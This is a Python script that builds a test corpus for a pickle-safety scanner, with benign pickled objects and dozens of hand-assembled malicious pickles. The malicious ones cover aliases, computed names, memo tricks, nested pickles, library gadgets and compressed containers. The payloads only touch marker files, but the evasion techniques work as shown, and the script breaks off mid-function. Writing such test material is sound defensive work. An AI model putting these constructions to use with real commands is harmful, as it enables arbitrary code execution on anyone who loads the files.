#!/usr/bin/env python3
"""Generate brinery's safety corpus: malicious pickles (every evasion class) and benign real objects.

Usage: .venv/bin/python scripts/gen_safety_corpus.py [OUTDIR] [--malicious-only]
(OUTDIR defaults to target/safety-corpus)

Writes
- ``OUTDIR/malicious/<name>.<ext>``: hand-assembled pickles and containers, one evasion per file.
  Every payload is inert: it would create ``OUTDIR/markers/<name>`` (``os.system('touch ...')``,
  ``exec``/``open`` of that path, ``numpy.save`` to it, ...) or print ``BRINERY-MARKER <name>``.
  Nothing here is ever loaded by this script.
- ``OUTDIR/benign/<kind>.p<N>.pkl``: real numpy/pandas/scikit-learn/stdlib objects pickled by the
  standard library at protocols 2, 4 and 5; ``<kind>.p5oob.pkl`` + ``<kind>.p5oob.buf<I>`` for
  protocol 5 with out-of-band buffers (only kinds that have buffers).
- ``OUTDIR/manifest.json``: ``{"marker_dir": ..., "malicious": [{"file", "evasion", "what",
  "marker"}], "benign": [{"file", "kind", "protocol", "buffers"}]}``.

The benign objects are deterministic (fixed seeds); the test suite (tests/test_safety.py) runs this
script into a temporary directory, scans every file and safe-loads every benign one.
"""

from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import fractions
import gzip
import io
import ipaddress
import json
import lzma
import pathlib
import pickle
import statistics
import struct
import sys
import uuid
import zipfile
import zlib
import zoneinfo
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent

# --- a tiny pickle assembler -------------------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def s(text: str) -> bytes:
    """A str push: SHORT_BINUNICODE or BINUNICODE."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def u0(text: str) -> bytes:
    """A protocol-0 str push (UNICODE, raw-unicode-escape)."""
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def bs(data: bytes) -> bytes:
    return (b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))) + data


def g(module: str, name: str) -> bytes:
    """GLOBAL (every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+)."""
    return s(module) + s(name) + b"\x93"


def binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def framed(body: bytes, declared: int | None = None) -> bytes:
    n = len(body) if declared is None else declared
    return b"\x95" + struct.pack("<Q", n) + body


MARK, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = (
    b"R",
    b"b",
    b"\x81",
    b"\x92",
    b")",
    b"}",
    b"]",
)
SETITEM, APPEND, POP, DUP, MEMOIZE, NONE = b"s", b"a", b"0", b"2", b"\x94", b"N"


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with REDUCE; each arg is an already-assembled push."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


# --- malicious corpus --------------------------------------------------------------------------


class Malicious:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.dir = root / "malicious"
        self.markers = root / "markers"
        self.entries: list[dict[str, str]] = []

    def marker(self, name: str) -> str:
        return str(self.markers / name)

    def touch(self, name: str) -> str:
        return f"touch {self.marker(name)}"

    def nested(self, name: str, ext: str) -> str:
        """A payload file a malicious pickle loads by path (under OUTDIR/nested, not in the manifest)."""
        path = self.root / "nested" / f"{name}.{ext}"
        path.parent.mkdir(parents=True, exist_ok=True)
        if ext == "npy":
            import numpy as np

            np.save(path, np.array([_Payload(self.touch(name))], dtype=object), allow_pickle=True)
        else:
            path.write_bytes(os_system_pickle(self.touch(name), 4))
        return str(path)

    def add(self, name: str, evasion: str, what: str, data: bytes, ext: str = "pkl") -> None:
        fname = f"{name}.{ext}"
        assert not (self.dir / fname).exists(), fname
        (self.dir / fname).write_bytes(data)
        self.entries.append({"file": fname, "evasion": evasion, "what": what, "marker": self.marker(name)})


def os_system_pickle(cmd: str, protocol: int = 2, module: str = "os", name: str = "system") -> bytes:
    if protocol == 0:
        return g(module, name) + MARK + u0(cmd) + TUPLE + REDUCE + STOP
    if protocol >= 4:
        body = sg(module, name) + s(cmd) + TUPLE1 + REDUCE + STOP
        return proto(protocol) + framed(body)
    return proto(protocol) + g(module, name) + s(cmd) + TUPLE1 + REDUCE + STOP


def exec_marker(path: str) -> str:
    return f"open({path!r}, 'w').close()"


def np_array_push() -> bytes:
    """An allowed numpy array (float64, shape (1,)) built from allowed globals only."""
    dtype = call(sg("numpy", "dtype"), s("f8"), b"\x89", b"\x88") + MARK + binint(3) + s("<") + NONE * 3
    dtype += binint(-1) + binint(-1) + binint(0) + TUPLE + BUILD
    arr = call(
        sg("numpy._core.multiarray", "_reconstruct"), sg("numpy", "ndarray"), binint(0) + TUPLE1, bs(b"b")
    )
    state = MARK + binint(1) + binint(1) + TUPLE1 + dtype + b"\x89" + bs(b"\x00" * 8) + TUPLE
    return arr + state + BUILD


def scipy_rv_exec_pickle(code: str) -> bytes:
    """What ``pickle.dumps(scipy.stats.norm, 2)`` writes, with ``code`` prepended to the template
    string its ``rv_generic.__setstate__`` passes to ``exec`` (red-team F1)."""
    import scipy.stats

    legit = pickle.dumps(scipy.stats.norm, protocol=2)
    tmpl = scipy.stats.norm._parse_arg_template.encode()
    old = b"X" + len(tmpl).to_bytes(4, "little") + tmpl
    assert old in legit
    new = code.encode() + b"\n" + tmpl
    return legit.replace(old, b"X" + len(new).to_bytes(4, "little") + new)


def gen_malicious(root: Path) -> list[dict[str, str]]:  # noqa: PLR0915 (one table of cases)
    m = Malicious(root)
    m.dir.mkdir(parents=True, exist_ok=True)
    m.markers.mkdir(parents=True, exist_ok=True)

    # 1. the plain shapes, every protocol, every call opcode
    for p in (0, 1, 2, 3, 4, 5):
        m.add(
            f"os_system_p{p}",
            "direct",
            f"os.system REDUCE at protocol {p}",
            os_system_pickle(m.touch(f"os_system_p{p}"), p),
        )
    n = "inst_os_system"
    m.add(n, "direct", "INST os.system", MARK + u0(m.touch(n)) + b"ios\nsystem\n" + STOP)
    n = "obj_os_system"
    m.add(n, "direct", "OBJ os.system", proto(2) + MARK + g("os", "system") + s(m.touch(n)) + b"o" + STOP)
    n = "newobj_popen"
    args = MARK + s("touch") + s(m.marker(n)) + b"l" + TUPLE1
    m.add(n, "direct", "NEWOBJ subprocess.Popen", proto(2) + g("subprocess", "Popen") + args + NEWOBJ + STOP)
    n = "newobj_ex_popen"
    m.add(
        n,
        "direct",
        "NEWOBJ_EX subprocess.Popen",
        proto(4) + framed(sg("subprocess", "Popen") + args + EMPTY_DICT + NEWOBJ_EX + STOP),
    )
    n = "reduce_popen"
    m.add(
        n,
        "direct",
        "subprocess.Popen(['touch', marker])",
        proto(2) + g("subprocess", "Popen") + args + REDUCE + STOP,
    )
    n = "subprocess_check_output"
    m.add(
        n,
        "direct",
        "subprocess.check_output",
        proto(2) + call(g("subprocess", "check_output"), MARK + s("touch") + s(m.marker(n)) + b"l") + STOP,
    )
    for fn in ("exec", "eval"):
        n = f"builtins_{fn}"
        code = exec_marker(m.marker(n)) if fn == "exec" else f"__import__('os').system({m.touch(n)!r})"
        m.add(n, "direct", f"builtins.{fn}", proto(4) + framed(call(sg("builtins", fn), s(code)) + STOP))
    n = "builtins_print"
    m.add(
        n,
        "direct",
        "builtins.print marker",
        proto(2) + call(g("builtins", "print"), s(f"BRINERY-MARKER {n}")) + STOP,
    )
    n = "builtins_open_write"
    m.add(
        n,
        "direct",
        "builtins.open(marker, 'w')",
        proto(2) + call(g("builtins", "open"), s(m.marker(n)), s("w")) + STOP,
    )
    n = "compile_exec"
    code = call(g("builtins", "compile"), s(exec_marker(m.marker(n))), s("<x>"), s("exec"))
    m.add(n, "direct", "exec(compile(...))", proto(2) + call(g("builtins", "exec"), code) + STOP)
    n = "breakpoint"
    m.add(
        n,
        "direct",
        "builtins.breakpoint",
        proto(2) + g("builtins", "breakpoint") + EMPTY_TUPLE + REDUCE + STOP,
    )

    # 2. aliases
    for mod in ("posix", "nt"):
        n = f"alias_{mod}_system"
        m.add(n, "alias", f"{mod}.system", os_system_pickle(m.touch(n), 2, mod))
    n = "alias_builtin_eval_p0"
    m.add(
        n,
        "alias",
        "__builtin__.eval at protocol 0 (fix_imports maps to builtins)",
        g("__builtin__", "eval")
        + MARK
        + u0(f"__import__('os').system({m.touch(n)!r})")
        + TUPLE
        + REDUCE
        + STOP,
    )
    n = "alias_builtin_eval_p2"
    m.add(
        n,
        "alias",
        "__builtin__.eval at protocol 2",
        proto(2) + call(g("__builtin__", "eval"), s(f"__import__('os').system({m.touch(n)!r})")) + STOP,
    )
    n = "alias_io_open"
    m.add(
        n, "alias", "_io.open(marker, 'w')", proto(2) + call(g("_io", "open"), s(m.marker(n)), s("w")) + STOP
    )
    n = "alias_io_fileio"
    m.add(
        n,
        "alias",
        "_io.FileIO(marker, 'w')",
        proto(2) + call(g("_io", "FileIO"), s(m.marker(n)), s("w")) + STOP,
    )
    n = "alias_operator_attrgetter"
    inner = call(g("_operator", "attrgetter"), s("system"))
    m.add(
        n,
        "alias",
        "_operator.attrgetter('system')(os)(cmd)",
        proto(2)
        + call(
            call(inner, g("os", "path") + POP + call(g("importlib", "import_module"), s("os"))), s(m.touch(n))
        )
        + STOP,
    )
    n = "alias_copy_reg_py2"
    m.add(
        n,
        "alias",
        "Python 2 copy_reg._reconstructor on subprocess.Popen",
        proto(2)
        + call(
            g("copy_reg", "_reconstructor"),
            g("subprocess", "Popen"),
            g("subprocess", "Popen"),
            MARK + s("touch") + s(m.marker(n)) + b"l",
        )
        + STOP,
    )

    # 3. dotted names resolved through attributes
    for mod, qual in (
        ("pathlib", "os.system"),
        ("uuid", "os.system"),
        ("pandas", "io.common.os.system"),
        ("tempfile", "_os.system"),
    ):
        n = "dotted_" + (mod + "_" + qual).replace(".", "_")
        body = sg(mod, qual) + s(m.touch(n)) + TUPLE1 + REDUCE + STOP
        m.add(n, "dotted name", f"STACK_GLOBAL {mod}:{qual}", proto(4) + framed(body))
    n = "dotted_ndarray_tofile"
    body = sg("numpy", "ndarray.tofile") + MARK + np_array_push() + s(m.marker(n)) + TUPLE + REDUCE + STOP
    m.add(
        n,
        "dotted name",
        "numpy.ndarray.tofile(array, marker) (method of an allowed class)",
        proto(4) + framed(body),
    )
    n = "dotted_datetime_sys_p2"
    m.add(
        n,
        "dotted name",
        "GLOBAL 'pathlib' 'os.system' at protocol 2 (CPython resolves dots at protocol >= 4 only)",
        proto(2) + call(g("pathlib", "os.system"), s(m.touch(n))) + STOP,
    )

    # 4. dangerous functions inside allowed libraries
    n = "numpy_save"
    m.add(
        n,
        "inside allowed library",
        "numpy.save(marker, array)",
        proto(4) + framed(call(sg("numpy", "save"), s(m.marker(n)), np_array_push()) + STOP),
    )
    n = "numpy_load"
    path = m.nested(n, "npy")
    body = call(sg("numpy", "load"), s(path), NONE, b"\x88") + STOP
    m.add(
        n,
        "inside allowed library",
        "numpy.load(<.npy with an object array>, None, True)",
        proto(4) + framed(body),
    )
    n = "numpy_testing_runstring"
    m.add(
        n,
        "inside allowed library",
        "numpy.testing._private.utils.runstring(code, {})",
        proto(4)
        + framed(
            call(sg("numpy.testing._private.utils", "runstring"), s(exec_marker(m.marker(n))), EMPTY_DICT)
            + STOP
        ),
    )
    n = "numpy_tofile_method_getattr"
    body = call(call(sg("builtins", "getattr"), np_array_push(), s("tofile")), s(m.marker(n))) + STOP
    m.add(n, "inside allowed library", "getattr(array, 'tofile')(marker)", proto(4) + framed(body))
    n = "numpy_memmap"
    body = call(sg("numpy", "memmap"), s(m.marker(n)), s("u1"), s("w+"), binint(0), binint(1) + TUPLE1) + STOP
    m.add(
        n,
        "inside allowed library",
        "numpy.memmap(marker, 'u1', 'w+', 0, (1,)) (creates a file)",
        proto(4) + framed(body),
    )
    n = "pandas_read_pickle"
    m.add(
        n,
        "inside allowed library",
        "pandas.read_pickle(path)",
        proto(4) + framed(call(sg("pandas", "read_pickle"), s(m.nested(n, "pkl"))) + STOP),
    )
    n = "pandas_io_to_pickle"
    m.add(
        n,
        "inside allowed library",
        "pandas.io.pickle.to_pickle(obj, marker)",
        proto(4) + framed(call(sg("pandas.io.pickle", "to_pickle"), s("x"), s(m.marker(n))) + STOP),
    )
    n = "pandas_eval"
    m.add(
        n,
        "inside allowed library",
        "pandas.eval(expression)",
        proto(4) + framed(call(sg("pandas", "eval"), s("1+1")) + STOP),
    )
    n = "pandas_dataframe_to_csv"
    body = (
        call(sg("pandas.core.frame", "DataFrame.to_csv"), call(sg("pandas", "DataFrame")), s(m.marker(n)))
        + STOP
    )
    m.add(
        n,
        "inside allowed library",
        "pandas DataFrame.to_csv(frame, marker) (method of an allowed class)",
        proto(4) + framed(body),
    )
    # red-team findings on the profiles (docs/security.md "Known attacks"): a class whose
    # __setstate__ exec()s pickled state (F1), I/O classes re-exported under `pandas` (F3), a tz
    # class whose constructor opens a path (F2)
    n = "scipy_rv_setstate_exec"
    m.add(n, "inside allowed library", "scipy.stats norm_gen BUILD: __setstate__ exec()s the pickled "
          "_parse_arg_template", scipy_rv_exec_pickle(exec_marker(m.marker(n))))  # fmt: skip
    for n, module, name in (
        ("pandas_excelfile_path", "pandas", "ExcelFile"),
        ("pandas_hdfstore_path", "pandas", "HDFStore"),
        ("pandas_jsonreader_path", "pandas.api.typing", "JsonReader"),
        ("dateutil_tzfile_path", "dateutil.tz", "tzfile"),
        ("dateutil_tzfile_path_tz", "dateutil.tz.tz", "tzfile"),
    ):
        m.add(n, "inside allowed library", f"{module}.{name}(path): opens a file named by the pickle",
              proto(2) + g(module, name) + s(m.marker(n)) + TUPLE1 + REDUCE + STOP)  # fmt: skip
    n = "joblib_load"
    m.add(
        n,
        "inside allowed library",
        "joblib.load(path)",
        proto(4) + framed(call(sg("joblib", "load"), s(m.nested(n, "pkl"))) + STOP),
    )
    n = "sklearn_fetch"
    m.add(
        n,
        "inside allowed library",
        "sklearn.datasets.fetch_openml (network, disk cache)",
        proto(4) + framed(call(sg("sklearn.datasets", "fetch_openml"), s("x")) + STOP),
    )
    n = "reconstructor_popen"
    body = call(
        g("copyreg", "_reconstructor"),
        g("subprocess", "Popen"),
        g("subprocess", "Popen"),
        MARK + s("touch") + s(m.marker(n)) + b"l",
    )
    m.add(
        n,
        "inside allowed library",
        "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__",
        proto(2) + body + STOP,
    )
    n = "bit_generator_ctor_popen"
    m.add(
        n,
        "inside allowed library",
        "numpy.random._pickle.__bit_generator_ctor(<non-BitGenerator class>)",
        proto(4)
        + framed(
            call(sg("numpy.random._pickle", "__bit_generator_ctor"), sg("antigravity", "geohash")) + STOP
        ),
    )

    # 5. names computed at load time
    n = "computed_codecs_module"
    body = (
        call(sg("_codecs", "encode"), s("bf"), s("rot13"))
        + s("system")
        + b"\x93"
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(
        n,
        "computed name",
        "STACK_GLOBAL module = _codecs.encode('bf', 'rot13') == 'os'",
        proto(4) + framed(body),
    )
    n = "computed_codecs_name"
    body = (
        s("os")
        + call(sg("_codecs", "encode"), s("flfgrz"), s("rot13"))
        + b"\x93"
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(
        n,
        "computed name",
        "STACK_GLOBAL name = _codecs.encode('flfgrz', 'rot13') == 'system'",
        proto(4) + framed(body),
    )
    n = "computed_memo_name"
    body = (
        call(sg("_codecs", "encode"), s("bf"), s("rot13"))
        + MEMOIZE
        + POP
        + get(0)
        + s("system")
        + b"\x93"
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(
        n,
        "computed name",
        "STACK_GLOBAL module from the memo, stored from a call result",
        proto(4) + framed(body),
    )
    n = "computed_str_join"
    body = (
        call(sg("builtins", "str.join"), s(""), MARK + s("o") + s("s") + b"l")
        + s("system")
        + b"\x93"
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(n, "computed name", "STACK_GLOBAL module = ''.join(['o','s'])", proto(4) + framed(body))

    # 6. calling the result of a call
    n = "call_import_module"
    body = (
        call(
            call(sg("builtins", "getattr"), call(sg("importlib", "import_module"), s("os")), s("system")),
            s(m.touch(n)),
        )
        + STOP
    )
    m.add(
        n,
        "call result called",
        "getattr(importlib.import_module('os'), 'system')(cmd)",
        proto(4) + framed(body),
    )
    n = "call_builtins_import"
    body = (
        call(
            call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), s("os")), s("system")),
            s(m.touch(n)),
        )
        + STOP
    )
    m.add(n, "call result called", "getattr(__import__('os'), 'system')(cmd)", proto(4) + framed(body))
    n = "call_attrgetter"
    body = (
        call(call(sg("operator", "attrgetter"), s("system")), sg("pathlib", "os"))
        + MEMOIZE
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(n, "call result called", "operator.attrgetter('system')(pathlib.os)(cmd)", proto(4) + framed(body))
    n = "call_methodcaller"
    body = call(call(sg("operator", "methodcaller"), s("tofile"), s(m.marker(n))), np_array_push()) + STOP
    m.add(n, "call result called", "operator.methodcaller('tofile', marker)(array)", proto(4) + framed(body))
    n = "call_partial"
    body = call(call(sg("functools", "partial"), sg("os", "system"), s(m.touch(n)))) + STOP
    m.add(n, "call result called", "functools.partial(os.system, cmd)()", proto(4) + framed(body))
    n = "call_resolve_name"
    body = call(call(sg("pkgutil", "resolve_name"), s("os:system")), s(m.touch(n))) + STOP
    m.add(n, "call result called", "pkgutil.resolve_name('os:system')(cmd)", proto(4) + framed(body))
    n = "call_pydoc_locate"
    body = call(call(sg("pydoc", "locate"), s("os.system")), s(m.touch(n))) + STOP
    m.add(n, "call result called", "pydoc.locate('os.system')(cmd)", proto(4) + framed(body))
    n = "call_getattr_allowed_module_attr"
    body = (
        call(
            call(sg("builtins", "getattr"), sg("numpy", "ndarray"), s("tofile")),
            np_array_push(),
            s(m.marker(n)),
        )
        + STOP
    )
    m.add(n, "call result called", "getattr(numpy.ndarray, 'tofile')(array, marker)", proto(4) + framed(body))
    n = "call_getattr_nonconstant"
    name = call(sg("_codecs", "encode"), s("gbsvyr"), s("rot13"))
    body = (
        call(call(sg("builtins", "getattr"), sg("numpy", "ndarray"), name), np_array_push(), s(m.marker(n)))
        + STOP
    )
    m.add(
        n,
        "call result called",
        "getattr(numpy.ndarray, <computed 'tofile'>)(array, marker)",
        proto(4) + framed(body),
    )

    # 7. BUILD on a global or a module
    n = "build_on_class"
    body = (
        sg("fractions", "Fraction")
        + NONE
        + EMPTY_DICT
        + s("__repr__")
        + sg("builtins", "print")
        + SETITEM
        + TUPLE2
        + BUILD
        + STOP
    )
    m.add(n, "BUILD on a global", "BUILD sets fractions.Fraction.__repr__ = print", proto(4) + framed(body))
    n = "build_on_module"
    body = (
        sg("numpy", "random")
        + NONE
        + EMPTY_DICT
        + s("default_rng")
        + sg("os", "system")
        + SETITEM
        + TUPLE2
        + BUILD
        + STOP
    )
    m.add(
        n,
        "BUILD on a module",
        "BUILD on the numpy.random module: default_rng = os.system",
        proto(4) + framed(body),
    )
    n = "build_on_function"
    body = (
        sg("numpy._core.multiarray", "_reconstruct")
        + EMPTY_DICT
        + s("__code__")
        + NONE
        + SETITEM
        + BUILD
        + STOP
    )
    m.add(
        n, "BUILD on a global", "BUILD on an allowed function (overwrite __code__)", proto(4) + framed(body)
    )
    n = "build_setstate_untrusted"
    body = call(sg("subprocess", "Popen.__new__"), sg("subprocess", "Popen")) + EMPTY_DICT + BUILD + STOP
    m.add(n, "BUILD on a global", "BUILD on an object of a class outside the policy", proto(4) + framed(body))

    # only allowed globals, used in ways the policy forbids
    n = "build_on_allowed_class"
    body = sg("sklearn.base", "BaseEstimator") + NONE + EMPTY_DICT + s("__repr__")
    body += sg("sklearn.metrics", "accuracy_score") + SETITEM + TUPLE2 + BUILD + STOP
    m.add(
        n,
        "BUILD on a global",
        "BUILD on the allowed class sklearn.base.BaseEstimator (patch __repr__)",
        proto(4) + framed(body),
    )
    # session 12's red team: a special attribute in a BUILD state (numpy reads
    # `__array_interface__` from the instance: any address, here an unmapped one), and functions
    # kept as values called after all (np.mean calls an attribute a BUILD set; the k-means solver
    # with n_threads=-5 makes libgomp abort the process)
    gen_value_gadgets(m)
    gen_bound_method_gadgets(m)
    n = "ref_only_called"
    m.add(
        n,
        "ref called",
        "builtins.object (reference-only) called",
        proto(2) + call(g("builtins", "object")) + STOP,
    )
    n = "reconstructor_ref_only_class"
    body = call(g("copyreg", "_reconstructor"), g("numpy", "float64"), g("builtins", "object"), NONE) + STOP
    m.add(n, "ref called", "copyreg._reconstructor given a reference-only class", proto(2) + body)
    n = "call_of_allowed_instance"
    body = call(call(sg("collections", "OrderedDict")), s(m.touch(n))) + STOP
    m.add(
        n,
        "call result called",
        "OrderedDict()(cmd): calling the result of an allowed call",
        proto(4) + framed(body),
    )

    # 8. memo tricks
    n = "memo_overwrite"
    body = (
        sg("collections", "OrderedDict")
        + put(0)
        + POP
        + sg("os", "system")
        + put(0)
        + POP
        + get(0)
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(
        n,
        "memo",
        "memo slot 0 first holds an allowed class, then os.system; GET 0 is called",
        proto(4) + framed(body),
    )
    n = "memo_dangerous_ref_called"
    body = (
        sg("os", "system")
        + MEMOIZE
        + POP
        + EMPTY_LIST
        + get(0)
        + APPEND
        + POP
        + get(0)
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(n, "memo", "os.system stored in the memo and called from it later", proto(4) + framed(body))
    n = "memo_get_unset"
    body = sg("os", "system") + POP + b"h\x07" + s(m.touch(n)) + TUPLE1 + REDUCE + STOP
    m.add(n, "memo", "GET of a memo slot never stored", proto(4) + framed(body))
    n = "memo_long_binget"
    body = (
        sg("posix", "system")
        + b"r"
        + struct.pack("<I", 1 << 30)
        + POP
        + b"j"
        + struct.pack("<I", 1 << 30)
        + s(m.touch(n))
        + TUPLE1
        + REDUCE
        + STOP
    )
    m.add(n, "memo", "LONG_BINPUT/LONG_BINGET at index 2**30", proto(4) + framed(body))

    # 9. payload then crash (the stdlib runs the payload, then raises)
    good = call(sg("os", "system"), s("{cmd}"))

    def crash(name: str, what: str, tail: bytes, protocol: int = 4) -> None:
        cmd = m.touch(name)
        m.add(
            name,
            "payload then crash",
            what,
            proto(protocol) + framed(call(sg("os", "system"), s(cmd)) + tail),
        )

    del good
    crash("crash_truncated", "payload then the stream ends (no STOP)", b"")
    crash("crash_bad_opcode", "payload then an unknown opcode", b"\xff" + STOP)
    crash("crash_underflow", "payload then stack underflow (POP on an empty stack)", POP + POP + STOP)
    crash("crash_memo_missing", "payload then GET of a slot never stored", get(9) + STOP)
    crash("crash_dup_proto", "payload then a second PROTO", proto(4) + STOP)
    n = "crash_frame_mismatch"
    body = call(sg("os", "system"), s(m.touch(n))) + STOP
    m.add(
        n,
        "payload then crash",
        "FRAME length longer than the opcodes inside it",
        proto(4) + framed(body, len(body) + 9),
    )
    n = "crash_frame_short"
    body = call(sg("os", "system"), s(m.touch(n))) + STOP
    m.add(
        n, "payload then crash", "FRAME length ending in the middle of an opcode", proto(4) + framed(body, 5)
    )
    n = "trailing_stacked_pickle"
    m.add(
        n,
        "stacked pickles",
        "a clean pickle followed by a second one running os.system",
        pickle.dumps([1, 2], 4) + os_system_pickle(m.touch(n), 4),
    )
    n = "trailing_garbage"
    m.add(
        n,
        "stacked pickles",
        "payload pickle followed by trailing bytes",
        os_system_pickle(m.touch(n), 4) + b"\x00garbage",
    )
    n = "crash_after_stop_p0"
    m.add(
        n,
        "payload then crash",
        "protocol 0 payload, then a truncated opcode",
        g("os", "system") + MARK + u0(m.touch(n)) + TUPLE + REDUCE + b"I12",
    )

    # 10. imports with side effects, EXT codes, persistent ids
    n = "import_this"
    m.add(
        n,
        "import side effect",
        "GLOBAL this.s (importing `this` prints the Zen)",
        proto(2) + g("this", "s") + STOP,
    )
    n = "import_antigravity"
    m.add(
        n,
        "import side effect",
        "GLOBAL antigravity.geohash (importing opens a browser)",
        proto(2) + g("antigravity", "geohash") + STOP,
    )
    n = "ext_code"
    m.add(
        n,
        "EXT code",
        "EXT1 0x7f called (copyreg extension registry)",
        proto(2) + b"\x82\x7f" + s(m.touch(n)) + TUPLE1 + REDUCE + STOP,
    )
    n = "ext4_code"
    m.add(n, "EXT code", "EXT4 code", proto(2) + b"\x84" + struct.pack("<i", 0x12345) + STOP)
    n = "persid"
    m.add(
        n,
        "persistent id",
        "PERSID (calls the loader's persistent_load)",
        b"P" + m.touch(n).encode() + b"\n" + STOP,
    )
    n = "binpersid"
    m.add(n, "persistent id", "BINPERSID", proto(2) + s(m.touch(n)) + b"Q" + STOP)

    # 11. nested pickles
    inner = os_system_pickle(m.touch("nested_pickle_loads"), 4)
    n = "nested_pickle_loads"
    m.add(
        n,
        "nested pickle",
        "pickle.loads(<nested malicious pickle>) inside a list",
        proto(4) + framed(EMPTY_LIST + call(sg("_pickle", "loads"), bs(inner)) + APPEND + STOP),
    )
    n = "nested_in_allowed_call"
    body = (
        EMPTY_DICT
        + s("model")
        + call(
            sg("collections", "OrderedDict"),
            MARK
            + MARK
            + s("payload")
            + call(sg("pickle", "loads"), bs(os_system_pickle(m.touch(n), 2)))
            + TUPLE
            + b"l",
        )
        + SETITEM
        + STOP
    )
    m.add(
        n,
        "nested pickle",
        "OrderedDict([('payload', pickle.loads(...))]) (nested pickle inside an allowed call)",
        proto(4) + framed(body),
    )

    # 12. containers, detected by content (names say nothing)
    payload = {
        k: os_system_pickle(m.touch(k), 2)
        for k in ("zip_torch_badcrc", "gzip", "bz2", "xz", "zlib", "zip_plain", "zip_deflated")
    }
    n = "zip_torch_badcrc"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", payload[n])
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/data/0", b"\x00" * 16)
    raw = bytearray(buf.getvalue())
    corrupt_crcs(raw)
    m.add(n, "container", "PyTorch-style zip (archive/data.pkl), CRCs wrong", bytes(raw), "bin")
    for n, comp in (("zip_plain", zipfile.ZIP_STORED), ("zip_deflated", zipfile.ZIP_DEFLATED)):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", comp) as z:
            z.writestr("weights/blob", payload[n])
        m.add(
            n,
            "container",
            f"zip ({'deflated' if comp else 'stored'}) member without a .pkl name",
            buf.getvalue(),
            "dat",
        )
    m.add("gzip", "container", "gzip of a pickle", gzip.compress(payload["gzip"], mtime=0), "model")
    m.add("bz2", "container", "bz2 of a pickle", bz2.compress(payload["bz2"]), "model")
    m.add("xz", "container", "xz of a pickle", lzma.compress(payload["xz"]), "model")
    m.add("zlib", "container", "zlib of a pickle", zlib.compress(payload["zlib"]), "model")
    gen_joblib(m)
    gen_npy(m)
    return m.entries


class _Call:
    """``func(*args)`` as a pickle (REDUCE): the class itself is never named."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def gen_value_gadgets(m: Malicious) -> None:
    import pickle
    import types

    import numpy as np
    from sklearn.cluster import _kmeans

    view = types.SimpleNamespace(
        __array_interface__={"shape": (1,), "typestr": "|u1", "data": (8, False), "version": 3}
    )
    m.add(
        "special_attribute_array_interface",
        "BUILD on a global",
        "numpy.positive of a SimpleNamespace whose BUILD state sets __array_interface__ (reads address 8)",
        pickle.dumps(_Call(np.positive, view), 4),
    )
    m.add(
        "value_only_numpy_called",
        "ref called",
        "numpy.mean (a value only) called on a SimpleNamespace whose `mean` is dict",
        pickle.dumps(_Call(np.mean, types.SimpleNamespace(mean=dict)), 4),
    )
    x = np.zeros((4, 2))
    m.add(
        "value_only_kmeans_called",
        "ref called",
        "sklearn's _kmeans_single_lloyd (a value only) called with n_threads=-5 (libgomp aborts)",
        pickle.dumps(
            _Call(_kmeans.__dict__["_kmeans_single_lloyd"], x, np.ones(4), x[:2], 2, False, 1e-4, -5), 4
        ),
    )


def gen_bound_method_gadgets(m: Malicious) -> None:
    # a method forwards attribute lookups to its function: BUILD on a bound method (a listed
    # one, Rbf's basis function) would store `append` in the function's __dict__, and APPEND
    # would then call it (session 13's red team)
    bound = call(
        g("builtins", "getattr"), g("scipy.interpolate._rbf", "Rbf") + EMPTY_TUPLE + NEWOBJ, s("_h_gaussian")
    )
    state = EMPTY_DICT + s("append") + g("posix", "system") + SETITEM
    m.add(
        "bound_method_function_dict",
        "BUILD on a global",
        "BUILD on getattr(Rbf(), '_h_gaussian') storing posix.system as `append`, then APPEND runs it",
        proto(2) + bound + state + BUILD + s(m.touch("bound_method_function_dict")) + APPEND + STOP,
    )


def corrupt_crcs(raw: bytearray) -> None:
    """Flip the CRC-32 of every local header and central directory entry (PyTorch ignores them)."""
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        i = raw.find(sig)
        while i != -1:
            raw[i + off] ^= 0xFF
            i = raw.find(sig, i + 4)


class _Payload:
    """An object whose pickle is ``os.system(cmd)``: used to make real joblib/npy files."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (self.cmd,))


def gen_joblib(m: Malicious) -> None:
    import joblib
    import numpy as np

